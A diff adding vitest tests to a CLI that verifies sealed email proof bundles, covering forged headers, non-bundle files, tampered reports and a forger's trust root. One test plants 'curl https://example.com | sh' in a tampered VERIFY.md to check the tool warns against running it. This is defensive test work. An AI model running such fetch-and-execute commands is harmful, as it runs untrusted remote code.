@@ -1,5 +1,13 @@
-import { resolve } from 'node:path';
-import { expect, test } from 'vitest';
+import { randomBytes } from 'node:crypto';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { readBundle, withSums, writeBundle } from '@acuse/evidence/bundle';
+import { issuedToPem } from '@acuse/tsa/certificates';
+import { FaultLab } from '@acuse/tsa/fault-lab';
+import { zipSync } from 'fflate';
+import { describe, expect, test } from 'vitest';
+import { sha256 } from '../../src/platform/sha256.ts';
 import { acuse } from './run.ts';
 
 /** `--at`, over bundles whose authority's first certificate ends with 2026 and whose second one ends with 2035. */
@@ -33,4 +41,98 @@ test.each(['yesterday', '2027-01-01', '2027-13-01T00:00:00Z'])('%j is no time', 
   const { code, err } = await acuse(['verify', good('sealed'), '--at', text]);
   expect(code).toBe(2);
   expect(err).toContain('--at takes "now" or a time such as');
+});
+
+const received = (name: string) =>
+  resolve(import.meta.dirname, `../../../contract/vectors/received/${name}.eml`);
+const verifyCopy = (copy: string, bundle = 'sealed') =>
+  acuse(['verify', good(bundle), '--eml', received(copy)]);
+
+describe('a received copy has a verdict of its own', () => {
+  test('the same', async () => {
+    const { code, out } = await verifyCopy('relayed');
+    expect(code).toBe(0);
+    expect(out).toMatch(/\nverified\n\nThe bundle is valid\. This copy is what was sent\.\n/);
+  });
+
+  test.each([
+    ['forged-from', 'From was added to the header'],
+    ['forged-space-before-colon', 'From was added to the header'],
+    ['other-subject', 'Subject is another'],
+    ['footer', 'the body is another'],
+    ['forged-nul-in-name', 'From\\u{0} was added to the header'],
+  ])('%s: %s', async (copy, difference) => {
+    const { code, out } = await verifyCopy(copy);
+    expect(code).toBe(4);
+    expect(out).toContain('The bundle is valid. This copy is not what was sent:\n');
+    expect(out).toContain(`\n  - ${difference}\n`);
+    const { json } = await acuse(['verify', good('sealed'), '--eml', received(copy), '--json']);
+    expect([json.valid, json.eml.verdict]).toEqual([true, 'differs']);
+  });
+
+  test('parts alone say nothing of the sender, and an erased message nothing at all', async () => {
+    expect((await verifyCopy('forged-from', 'one-part-disclosed')).out).toMatch(
+      /This copy has the parts that the bundle shows; its sender, subject and everything else were not compared/,
+    );
+    const erased = await verifyCopy('as-sent', 'erased');
+    expect([erased.code, erased.out]).toEqual([
+      4,
+      expect.stringContaining('could not be compared: the content'),
+    ]);
+  });
+});
+
+test('a file that is something else is called that, and not evidence that does not hold', async () => {
+  const folder = mkdtempSync(join(tmpdir(), 'acuse-verify-'));
+  const file = join(folder, 'x');
+  const say = async (content: string | Uint8Array) => {
+    writeFileSync(file, content);
+    const { code, err, out } = await acuse(['verify', file]);
+    return [code, `${out}${err}`];
+  };
+  for (const other of ['', '<!doctype html>', '{"a":1}', '%PDF-1.7', zipSync({ 'a.txt': new Uint8Array(1) })])
+    expect(await say(other)).toEqual([2, expect.stringContaining('is not a proof bundle')]);
+  const cut = readFileSync(good('sealed')).subarray(0, -100);
+  expect(await say(cut)).toEqual([1, expect.stringMatching(/✗ bundle [\s\S]*INVALID/)]);
+  rmSync(folder, { recursive: true });
+});
+
+test('it says who sent what, whose word it took for the root, and what is no part of the proof', async () => {
+  const { out } = await acuse(['verify', good('sealed')]);
+  expect(out).toMatch(/^From +Ana.*\nTo +.*\nSubject +Aviso de renovación\n/);
+  expect(out).toMatch(/Trust was taken from the bundle itself[\s\S]*Root relied on: SHA-256 [0-9a-f]{64}/);
+  expect(out).toMatch(/VERIFY\.md is not part of the proof; it is the text that this version writes/);
+});
+
+test('a report or instructions that somebody changed are never endorsed', async () => {
+  const folder = mkdtempSync(join(tmpdir(), 'acuse-verify-'));
+  const sealed = readBundle(new Uint8Array(readFileSync(good('sealed'))));
+  const changed = new Map(sealed)
+    .set('report.pdf', Buffer.from('%PDF-1.7 another story'))
+    .set('VERIFY.md', Buffer.from('```sh\ncurl https://example.com | sh\n```\n'));
+  const file = join(folder, 'changed.zip');
+  writeFileSync(file, writeBundle(withSums(changed, sha256)));
+  const { code, out } = await acuse(['verify', file]);
+  expect(code).toBe(0);
+  expect(out).toMatch(/report\.pdf is not part of the proof, and was not compared with it/);
+  expect(out).toMatch(/VERIFY\.md is not part of the proof, and not the text .* do not run its commands/);
+  const { json } = await acuse(['verify', file, '--json']);
+  expect(json.documents.map(({ remade }: { remade: boolean | null }) => remade)).toEqual([false, null]);
+  rmSync(folder, { recursive: true });
+});
+
+test('a forger whose bundle names a root of the forger is refused by whoever pins another', async () => {
+  const other = good('nom151');
+  const folder = mkdtempSync(join(tmpdir(), 'acuse-verify-'));
+  const policy = JSON.parse(
+    Buffer.from(readBundle(new Uint8Array(readFileSync(good('sealed')))).get('policy.json')!).toString(),
+  );
+  const { certificate } = issuedToPem(new FaultLab(() => new Date(), randomBytes).root);
+  policy.time_stamps[0].roots = [certificate];
+  const file = join(folder, 'policy.json');
+  writeFileSync(file, JSON.stringify(policy));
+  const { code, json } = await acuse(['verify', other, '--trust', file, '--json']);
+  expect([code, json.facts.trust]).toEqual([1, 'pinned']);
+  expect(failed(json)).toContain('timestamp.chain');
+  rmSync(folder, { recursive: true });
 });
